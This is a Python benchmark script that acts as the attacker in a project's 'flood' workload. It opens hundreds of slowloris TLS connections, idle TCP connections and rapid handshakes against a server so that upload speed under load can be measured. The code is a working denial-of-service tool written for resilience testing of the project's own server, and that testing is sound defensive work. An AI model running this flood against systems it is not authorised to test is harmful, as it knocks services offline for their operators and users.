#!/usr/bin/env python3
"""The attacker of bench/upload.sh's "flood" workload: slowloris and a connection flood against a
TLS server, held while a real upload runs (issue 17: the upload keeps >= 80 % of its unloaded speed).

Usage: flood_client.py HOST PORT CA_FILE READY_FILE [--slow N] [--idle N] [--churn PER_S] [--trickle S]
  --slow N      TLS connections, anonymous (no client certificate, as an attacker without the upload
                proxy's key), each sending a request header one short line every --trickle seconds
                and never ending it (slowloris); reopened at once when the server closes one
                (default 256, security.md A11)
  --idle N      plain TCP connections that send nothing; reopened when closed (default 768, so slow +
                idle is the server's cap of 1,024 held connections)
  --churn R     new anonymous TLS handshakes per second, each closed at once (default 50)
  --trickle S   seconds between the header lines of a slow connection (default 1)
READY_FILE is written once every slow and idle connection has been opened the first time. On SIGTERM
or SIGINT the counts (opened, closed by the server, handshakes, errors) go to stdout as one JSON line.
"""
import argparse
import asyncio
import json
import signal
import ssl

stats = {"slow_opened": 0, "slow_closed_by_server": 0, "idle_opened": 0, "idle_closed_by_server": 0,
         "churn_handshakes": 0, "errors": 0}


async def slow_connection(host, port, ctx, trickle, first):
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port, ssl=ctx, server_hostname=host)
            stats["slow_opened"] += 1
            if not first.done():
                first.set_result(None)
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            n = 0
            while not reader.at_eof():
                await writer.drain()
                try:
                    # Reading returns when the server closes; otherwise the next line is due.
                    data = await asyncio.wait_for(reader.read(4096), trickle)
                    if not data:
                        break
                except asyncio.TimeoutError:
                    writer.write(b"X-Slow-%d: a\r\n" % n)
                    n += 1
            stats["slow_closed_by_server"] += 1
            writer.close()
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError):
            stats["errors"] += 1
            if not first.done():
                first.set_result(None)
            await asyncio.sleep(0.1)


async def idle_connection(host, port, first):
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            stats["idle_opened"] += 1
            if not first.done():
                first.set_result(None)
            await reader.read()  # returns when the server closes it
            stats["idle_closed_by_server"] += 1
            writer.close()
        except OSError:
            stats["errors"] += 1
            if not first.done():
                first.set_result(None)
        await asyncio.sleep(0.5)


async def churn(host, port, ctx, per_second):
    async def one():
        try:
            _, writer = await asyncio.open_connection(host, port, ssl=ctx, server_hostname=host)
            stats["churn_handshakes"] += 1
            writer.close()
        except (OSError, ssl.SSLError):
            stats["errors"] += 1
    pending = set()
    while per_second > 0:
        task = asyncio.ensure_future(one())
        pending.add(task)
        task.add_done_callback(pending.discard)
        await asyncio.sleep(1.0 / per_second)


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("ca")
    ap.add_argument("ready")
    ap.add_argument("--slow", type=int, default=256)
    ap.add_argument("--idle", type=int, default=768)
    ap.add_argument("--churn", type=float, default=50)
    ap.add_argument("--trickle", type=float, default=1.0)
    a = ap.parse_args()
    ctx = ssl.create_default_context(cafile=a.ca)
    loop = asyncio.get_running_loop()
    stop = loop.create_future()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, lambda: stop.done() or stop.set_result(None))
    firsts = [loop.create_future() for _ in range(a.slow + a.idle)]
    tasks = [asyncio.ensure_future(slow_connection(a.host, a.port, ctx, a.trickle, firsts[i])) for i in range(a.slow)]
    tasks += [asyncio.ensure_future(idle_connection(a.host, a.port, firsts[a.slow + i])) for i in range(a.idle)]
    await asyncio.wait([asyncio.gather(*firsts), stop], return_when=asyncio.FIRST_COMPLETED)
    with open(a.ready, "w") as f:
        f.write("ready\n")
    tasks.append(asyncio.ensure_future(churn(a.host, a.port, ctx, a.churn)))
    await stop
    for t in tasks:
        t.cancel()
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
